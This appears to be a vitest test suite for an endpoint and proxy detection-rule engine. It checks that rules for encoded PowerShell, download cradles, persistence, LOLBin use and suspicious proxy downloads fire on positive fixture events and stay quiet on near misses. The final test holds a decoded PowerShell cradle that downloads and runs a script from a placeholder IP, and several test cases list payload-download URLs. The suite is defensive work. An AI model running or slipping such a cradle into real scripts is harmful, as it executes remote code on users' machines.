// Every curated rule in resources/rules/ fires on its positive fixture events and stays quiet on
// its near misses, with events built by the real parsers (Sysmon JSON, Defender CSV, Carbon
// Black EDR JSON, Squid, FortiGate). A rule file without an entry here fails the suite.
import { readdirSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../../../electron/common/detect';
import { curatedRulesDir, loadRuleSet, runRules, type RuleSet } from '../../../../electron/engine/detect/rules';
import { eventValues, fixtureCase, hostsOf, type FixtureCase } from './fixture-case';

/** Where a rule must fire and where it must not: by host, or by a column of the events. */
type Expectation =
  | { hosts: { fires: string[]; quiet: string[] } }
  | { column: string; fires: string[]; quiet: string[] };

const CASES: Record<string, Expectation> = {
  'office_child_script_host_or_lolbin.yml': {
    hosts: { fires: ['OFFICE-POS-SYSMON', 'OFFICE-POS-CBEDR', 'office-pos-defender.acme.local'], quiet: ['OFFICE-NEG-SYSMON', 'OFFICE-NEG-CBEDR', 'office-neg-defender.acme.local', 'LURE-POS-SYSMON'] },
  },
  'powershell_encoded_command.yml': {
    hosts: { fires: ['OFFICE-POS-SYSMON', 'OFFICE-POS-CBEDR', 'office-pos-defender.acme.local'], quiet: ['ADMIN-SYSMON', 'ADMIN-CBEDR', 'admin-defender.acme.local', 'CRADLE-POS-SYSMON'] },
  },
  'powershell_download_cradle.yml': {
    hosts: { fires: ['OFFICE-POS-SYSMON', 'CRADLE-POS-SYSMON', 'SIGMA-DLPATTERN-POS-CBEDR'], quiet: ['CRADLE-NEG-SYSMON', 'ADMIN-SYSMON', 'HIDDEN-POS-SYSMON'] },
  },
  'powershell_hidden_window.yml': {
    hosts: { fires: ['OFFICE-POS-SYSMON', 'HIDDEN-POS-SYSMON'], quiet: ['HIDDEN-NEG-SYSMON', 'ADMIN-SYSMON', 'CRADLE-POS-SYSMON'] },
  },
  'rundll32_regsvr32_user_writable_dll.yml': {
    hosts: { fires: ['RUNDLL-POS-SYSMON', 'RUNDLL-POS-CBEDR', 'rundll-pos-defender.acme.local'], quiet: ['RUNDLL-NEG-SYSMON', 'RUNDLL-NEG-CBEDR', 'rundll-neg-defender.acme.local'] },
  },
  'persistence_run_key_suspicious_value.yml': {
    hosts: { fires: ['RUNKEY-POS-SYSMON', 'RUNKEY-POS-CBEDR', 'runkey-pos-defender.acme.local'], quiet: ['RUNKEY-NEG-SYSMON', 'RUNKEY-NEG-CBEDR', 'runkey-neg-defender.acme.local'] },
  },
  'persistence_run_key_command_line.yml': { hosts: { fires: ['REGADD-POS-SYSMON'], quiet: ['REGADD-NEG-SYSMON'] } },
  'persistence_scheduled_task_suspicious.yml': { hosts: { fires: ['SCHTASK-POS-SYSMON'], quiet: ['SCHTASK-NEG-SYSMON'] } },
  'persistence_service_created_command_line.yml': { hosts: { fires: ['SVC-POS-SYSMON'], quiet: ['SVC-NEG-SYSMON'] } },
  'persistence_service_installed_user_writable.yml': { hosts: { fires: ['SVC7045-POS'], quiet: ['SVC7045-NEG'] } },
  'lolbin_download_certutil_bitsadmin.yml': { hosts: { fires: ['LOLDL-POS-SYSMON'], quiet: ['LOLDL-NEG-SYSMON'] } },
  'office_opens_lure_document.yml': { hosts: { fires: ['LURE-POS-SYSMON'], quiet: ['LURE-NEG-SYSMON', 'OFFICE-NEG-SYSMON'] } },
  'network_public_ip_nonstandard_port.yml': { hosts: { fires: ['NONSTD-POS-SYSMON'], quiet: ['NONSTD-NEG-SYSMON', 'SMTP-NEG-SYSMON'] } },
  'smtp_from_workstation_process.yml': { hosts: { fires: ['SMTP-POS-SYSMON'], quiet: ['SMTP-NEG-SYSMON'] } },
  'smb_user_process_to_internal_host.yml': { hosts: { fires: ['SMB-POS-SYSMON'], quiet: ['SMB-NEG-SYSMON'] } },
  'firewall_internal_to_public_nonstandard_port.yml': { hosts: { fires: ['fwns-pos'], quiet: ['fwns-neg', 'fwsmtp-pos'] } },
  'smtp_outbound_from_internal_firewall.yml': { hosts: { fires: ['fwsmtp-pos'], quiet: ['fwsmtp-neg', 'fwns-pos'] } },
  'proxy_executable_download.yml': {
    column: 'url',
    fires: ['http://files.example.net/download/setup.exe', 'http://cdn.example.org/x/payload.bin?id=7', 'http://198.51.100.23:8080/qzx81.dll'],
    quiet: ['http://www.example.com/index.html', 'http://download.windowsupdate.com/c/msdownload/update/kb5031356.exe', 'http://files.example.net/download/missing.exe'],
  },
  'proxy_direct_ip_executable_download.yml': {
    column: 'url',
    fires: ['http://198.51.100.23:8080/qzx81.dll'],
    quiet: ['http://198.51.100.24/index.html', 'http://files.example.net/download/setup.exe'],
  },
  'proxy_direct_ip_nonstandard_port.yml': {
    column: 'url',
    fires: ['http://203.0.113.77:7080/gate/login.php', 'http://198.51.100.23:8080/qzx81.dll'],
    quiet: ['http://203.0.113.79/news/today.html', 'https://203.0.113.78:443/portal/', 'http://www.example.com/index.html'],
  },
};

describe('curated rules', () => {
  let fx: FixtureCase;
  let set: RuleSet;
  let findings: Finding[];
  const idOf = new Map<string, string>();

  beforeAll(async () => {
    fx = await fixtureCase();
    set = loadRuleSet();
    for (const r of set.rules) idOf.set(r.file.split(/[\\/]/).pop()!, r.id);
    findings = runRules(fx.store, set);
  });
  afterAll(() => fx?.dispose());

  it('load without problems, each with an id, ATT&CK techniques, a level and a stage', () => {
    expect(set.problems).toEqual([]);
    const files = readdirSync(curatedRulesDir()).filter((f) => /\.ya?ml$/.test(f));
    expect(set.rules.length).toBe(files.length);
    for (const r of set.rules) {
      expect(r.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(r.attack.length, r.title).toBeGreaterThan(0);
      expect(r.falsepositives.length, r.title).toBeGreaterThan(0);
      expect(r.stage, r.title).not.toBe('other');
    }
  });

  it('every rule file has a positive and a negative test here', () => {
    const files = readdirSync(curatedRulesDir()).filter((f) => /\.ya?ml$/.test(f));
    expect(files.filter((f) => !(f in CASES))).toEqual([]);
    for (const e of Object.values(CASES)) {
      const [fires, quiet] = 'hosts' in e ? [e.hosts.fires, e.hosts.quiet] : [e.fires, e.quiet];
      expect(fires.length).toBeGreaterThan(0);
      expect(quiet.length).toBeGreaterThan(0);
    }
  });

  for (const [file, e] of Object.entries(CASES)) {
    it(`${file} fires on its positives and stays quiet on its near misses`, () => {
      const id = idOf.get(file);
      expect(id, `${file} not loaded`).toBeDefined();
      if ('hosts' in e) {
        const hosts = hostsOf(findings, id!);
        for (const h of e.hosts.fires) expect(hosts, `${file} on ${h}`).toContain(h);
        for (const h of e.hosts.quiet) expect(hosts, `${file} on ${h}`).not.toContain(h);
      } else {
        const values = eventValues(fx.store, findings, id!, e.column);
        for (const v of e.fires) expect(values, `${file} on ${v}`).toContain(v);
        for (const v of e.quiet) expect(values, `${file} on ${v}`).not.toContain(v);
      }
    });
  }

  it("an administrator's PowerShell scripts raise nothing above low, on any source", () => {
    const admin = findings.filter((f) => /^admin-/i.test(f.host ?? ''));
    expect(admin.filter((f) => f.severity !== 'informational' && f.severity !== 'low')).toEqual([]);
  });

  it('Word opening a lure alone is a low-severity lure finding, not execution', () => {
    const lure = findings.filter((f) => f.host === 'LURE-POS-SYSMON');
    expect(lure.map((f) => [f.stage, f.severity])).toEqual([['lure', 'low']]);
    expect(findings.filter((f) => f.host === 'LURE-NEG-SYSMON')).toEqual([]);
  });

  it('findings carry stage, ATT&CK ids, the first event time, the user and why they fired', () => {
    const f = findings.find((x) => x.rule === idOf.get('office_child_script_host_or_lolbin.yml') && x.host === 'OFFICE-POS-SYSMON')!;
    expect(f.stage).toBe('execution');
    expect(f.attack).toContain('T1204.002');
    expect(f.user).toBe('ACME\\sato.hanako');
    expect(f.time).toMatch(/^2026-10-05T\d{2}:\d{2}:\d{2}\.000Z$/);
    expect(f.id).toBe(`${f.rule}:${f.host}:${f.event_ids[0]}`);
    expect(f.reasons.some((r) => r.startsWith('ParentImage = C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'))).toBe(true);
    expect(f.reasons.some((r) => r.startsWith('Image = ') && r.includes("endswith '\\powershell.exe'"))).toBe(true);
  });

  it('shows the decoded -EncodedCommand script in the reasons', () => {
    for (const host of ['OFFICE-POS-SYSMON', 'OFFICE-POS-CBEDR', 'office-pos-defender.acme.local']) {
      const f = findings.find((x) => x.rule === idOf.get('powershell_encoded_command.yml') && x.host === host)!;
      expect(f.reasons).toContain("Decoded PowerShell -EncodedCommand: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
    }
  });
});
